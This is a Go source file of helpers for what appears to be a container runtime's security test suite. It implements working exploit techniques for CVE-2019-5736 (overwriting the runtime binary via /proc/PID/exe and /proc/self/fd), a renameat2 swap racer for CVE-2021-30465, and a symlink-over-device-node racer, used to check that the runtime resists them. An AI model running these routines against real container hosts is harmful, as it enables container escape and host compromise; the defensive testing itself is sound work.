package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// exewatch is the CVE-2019-5736 attacker, for security.bats. Until stop
// exists it watches its pid namespace for new processes and opens
// /proc/PID/exe of each with O_PATH, as the published exploit does: a
// runtime process that enters the container exposes the binary it runs.
// The new pid is predicted (the namespace's last pid plus one) and
// polled in a tight loop, so that even a process that lives for a few
// microseconds before its execve is caught. A binary of size bytes is
// taken to be the runtime (its path says little: a sealed copy may be a
// memfd or the root of a detached mount). For each such binary it tries
// to open the file for writing at once (ETXTBSY while it runs) and, once
// stop exists (the runtime has exited, so only a sealed binary still
// refuses), to write over its first bytes. It prints one line per such
// process, one per process whose exe it may not open, then a summary:
//
//	caught PID TARGET now=ERR later=ERR   ("ok" where the write worked)
//	denied PID COMM ERR
//	watched N processes, M caught
func exewatch(args []string) error {
	if len(args) != 2 {
		return fmt.Errorf("exewatch: want STOPFILE SIZE")
	}
	stop := args[0]
	size, err := strconv.ParseInt(args[1], 10, 64)
	if err != nil {
		return fmt.Errorf("exewatch: bad size %q", args[1])
	}
	type catch struct {
		pid    int
		fd     int
		target string
		now    string
	}
	var caught []catch
	var denied []string
	watched := 0
	w := watchPids(stop)
	for w.poll(nil) {
		for _, pid := range w.next() {
			if w.seen[pid] {
				continue
			}
			fd, err := unix.Open("/proc/"+strconv.Itoa(pid)+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err == unix.ENOENT {
				continue
			}
			w.found(pid)
			watched++
			if err != nil {
				// The process exists but we may not follow its exe
				// link (ptrace access).
				comm, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
				denied = append(denied, fmt.Sprintf("denied %d %s %s", pid, strings.TrimSpace(string(comm)), errName(err)))
				continue
			}
			var st unix.Stat_t
			if unix.Fstat(fd, &st) != nil || st.Size != size {
				unix.Close(fd)
				continue
			}
			target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			caught = append(caught, catch{pid: pid, fd: fd, target: target, now: tryWrite(fd)})
		}
	}
	// The caller makes stop once the runtime has exited, as the exploit
	// waits for it: the write is then refused by the seal, if at all,
	// not by ETXTBSY.
	for _, c := range caught {
		later := "no-fd"
		if c.fd >= 0 {
			later = tryWrite(c.fd)
		}
		fmt.Printf("caught %d %s now=%s later=%s\n", c.pid, strings.ReplaceAll(c.target, " ", "_"), c.now, later)
	}
	for _, d := range denied {
		fmt.Println(d)
	}
	fmt.Printf("watched %d processes, %d caught\n", watched, len(caught))
	return nil
}

// tryWrite reopens the O_PATH fd for writing through /proc/self/fd, the
// magic link the exploit uses, and writes over the first bytes.
func tryWrite(fd int) string {
	w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return errName(err)
	}
	defer unix.Close(w)
	if _, err := unix.Pwrite(w, []byte("pwned"), 0); err != nil {
		return errName(err)
	}
	return "ok"
}

func errName(err error) string {
	if e, ok := err.(unix.Errno); ok {
		if n := unix.ErrnoName(e); n != "" {
			return n
		}
	}
	return strings.ReplaceAll(err.Error(), " ", "_")
}

// swap is the CVE-2021-30465 racer, for security.bats: it exchanges the
// names a and b (renameat2 RENAME_EXCHANGE, atomic) as fast as it can
// until stop exists, then prints how many times.
func swap(args []string) error {
	if len(args) != 3 {
		return fmt.Errorf("swap: want STOPFILE A B")
	}
	stop, a, b := args[0], args[1], args[2]
	n := 0
	for {
		for i := 0; i < 1000; i++ {
			if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
				return fmt.Errorf("swap %s %s: %w", a, b, err)
			}
			n++
		}
		if _, err := os.Stat(stop); err == nil {
			break
		}
	}
	fmt.Printf("swapped %d times\n", n)
	return nil
}

// plant is the racer of device nodes made in a shared directory, for
// security.bats: until stop exists it waits for name to be a device node
// and renames a symlink to target over it, and starts again.
func plant(args []string) error {
	if len(args) != 3 {
		return fmt.Errorf("plant: want STOPFILE NAME TARGET")
	}
	stop, name, target := args[0], args[1], args[2]
	tmp := name + ".plant"
	n, planted := 0, 0
	for {
		for i := 0; i < 1000; i++ {
			if err := unix.Symlink(target, tmp); err != nil && err != unix.EEXIST {
				return fmt.Errorf("plant: symlink: %w", err)
			}
			var st unix.Stat_t
			if unix.Lstat(name, &st) == nil && (st.Mode&unix.S_IFMT == unix.S_IFCHR || st.Mode&unix.S_IFMT == unix.S_IFBLK) {
				if unix.Rename(tmp, name) == nil {
					planted++
				}
			}
			n++
		}
		if _, err := os.Stat(stop); err == nil {
			break
		}
	}
	fmt.Printf("planted %d times in %d tries\n", planted, n)
	return nil
}
